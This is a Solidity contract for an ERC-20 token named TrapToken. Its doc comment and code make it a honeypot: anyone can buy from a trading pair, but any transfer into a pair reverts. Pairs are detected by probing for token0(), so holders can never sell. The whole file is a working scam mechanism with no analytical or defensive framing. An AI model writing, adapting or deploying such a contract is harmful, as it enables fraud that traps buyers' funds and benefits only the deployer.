// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TokenLedger} from "./TokenLedger.sol";

/// An ERC-20 token that anybody can buy of a pair, and nobody can sell to one.
contract TrapToken is TokenLedger {
    function transfer(address to, uint256 value) external returns (bool) {
        require(isPair(msg.sender) || !isPair(to));
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(!isPair(to));
        spendAllowance(from, value);
        move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        setAllowance(spender, value);
        return true;
    }

    function isPair(address who) private view returns (bool) {
        (bool answered, bytes memory data) = who.staticcall(abi.encodeWithSignature("token0()"));
        return answered && data.length == 32;
    }
}
